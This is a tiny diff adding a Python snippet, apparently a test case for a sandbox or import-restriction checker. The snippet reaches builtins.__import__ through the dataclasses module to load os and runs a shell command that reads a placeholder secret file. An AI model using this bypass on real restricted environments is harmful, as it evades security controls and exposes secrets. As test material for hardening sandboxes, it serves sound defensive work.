@@ -1,0 +1,4 @@
+# dataclasses keeps builtins.
+# effect: run
+import dataclasses
+dataclasses.builtins.__import__("os").system("cat @SECRET@")
